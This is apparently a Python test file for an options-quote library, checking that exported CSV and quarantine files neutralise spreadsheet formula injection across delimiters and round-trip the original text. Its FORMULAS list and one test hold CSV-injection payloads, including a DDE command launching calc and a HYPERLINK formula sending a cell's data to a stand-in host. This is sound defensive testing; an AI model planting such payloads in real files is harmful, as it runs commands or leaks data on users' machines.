"""An attacker writes formulas into labels and ids, and wants a spreadsheet to run them out of our CSV files."""

from __future__ import annotations

import csv
import re

import polars as pl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

import strikeout as so

BEGINS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
FORMULAS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",
    "''=1+1",
    "a;=1+1",
    'a",=1+1',
    "a\n=1+1",
    "-",
    "-0.5",
    "+3",
    "1e-3",
    "'",
    "it's",
]
HARMLESS = re.compile(r"[+-]?[0-9.,]+([eE][+-]?[0-9]+)?%?|-+")


def begins_a_formula(cell: str) -> bool:
    """As a spreadsheet decides: by its first character, unless all of it is a number."""
    return cell.startswith(BEGINS) and not HARMLESS.fullmatch(cell)


def cells(path, delimiter=","):
    with path.open(newline="", encoding="utf-8") as file:
        return [cell for row in csv.reader(file, delimiter=delimiter) for cell in row]


@pytest.fixture
def quotes():
    plain = so.paper.quotes("small", seed=1)[: len(FORMULAS)]
    ids = [f"{text}#{place}" for place, text in enumerate(FORMULAS)]
    labels = {"licence": FORMULAS, "=1+1": ["x"] * len(FORMULAS), "date": plain.labels["date"]}
    return so.Quotes(ids=ids, contracts=plain.contracts, observed=plain.observed, labels=labels)


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_no_cell_of_an_exported_csv_is_a_formula_however_a_spreadsheet_splits_it(quotes, tmp_path, delimiter):
    found = cells(so.write_quotes(quotes, tmp_path / "out.csv"), delimiter)
    assert not [cell for cell in found if begins_a_formula(cell)]


def test_what_was_written_reads_back_to_the_same_texts(quotes, tmp_path):
    again = so.read_quotes(so.write_quotes(quotes, tmp_path / "out.csv"))
    assert again.ids.tolist() == quotes.ids.tolist()
    assert {name: label.tolist() for name, label in again.labels.items()} == {
        name: label.tolist() for name, label in quotes.labels.items()
    }


def test_a_book_hands_out_no_formula(quotes, tmp_path):
    with so.Book.create(tmp_path / "a.book") as book:
        book.import_quotes(quotes)
        assert not [cell for cell in cells(book.export(tmp_path / "out.csv")) if begins_a_formula(cell)]


def test_no_cell_of_a_quarantine_file_is_a_formula_and_it_reads_back(tmp_path):
    rows = "".join(
        f'"{text.replace(chr(34), chr(34) * 2)}",100,C,x{at},0.5,100,1\n' for at, text in enumerate(FORMULAS)
    )
    (tmp_path / "in.csv").write_text("=note,strike,right,price,expiry_years,forward,discount\n" + rows, newline="")
    so.inspect_quotes(tmp_path / "in.csv").write_quarantine(tmp_path / "bad.csv")
    found = cells(tmp_path / "bad.csv")
    assert not [cell for cell in found if begins_a_formula(cell)]
    # Corrected (a price for every row) and read again, the labels are those read from the vendor's file.
    mended = pl.read_csv(tmp_path / "bad.csv", infer_schema=False).with_columns(
        price=pl.lit("5"), strike=pl.int_range(100, 100 + pl.len()).cast(pl.String)
    )
    mended.write_csv(tmp_path / "mended.csv")
    assert so.read_quotes(tmp_path / "mended.csv").labels["=note"].tolist() == [
        text.removeprefix("'") if text.startswith(("'=", "''=")) else text for text in FORMULAS
    ]


def test_the_lines_above_a_vendor_s_header_are_no_formulas_either(tmp_path):
    """Barchart and Cboe put lines above the header, which a quarantine file repeats."""
    so.synthetic.write_sample(tmp_path / "in.csv", "page")
    text = (tmp_path / "in.csv").read_text()
    (tmp_path / "in.csv").write_text("=cmd|'/C calc'!A0;=1+1\n" + text)
    so.inspect_quotes(tmp_path / "in.csv").write_quarantine(tmp_path / "bad.csv")
    for delimiter in ",;":
        assert not [cell for cell in cells(tmp_path / "bad.csv", delimiter) if begins_a_formula(cell)]


@given(st.text(st.sampled_from("'=+-@\t\r\n＝,;|\"1.ea"), max_size=12) | st.text(max_size=12))
@example("''=")
@example("a;\t=x")
def test_every_text_comes_back_and_none_begins_a_formula(text):
    from strikeout.quotes.spreadsheets import guarded_text, unguarded_text

    written = guarded_text(text)
    assert unguarded_text(written) == text
    for part in re.split(r"[,;|\t\r\n\"]", written):
        assert not begins_a_formula(part) or HARMLESS.fullmatch(written)
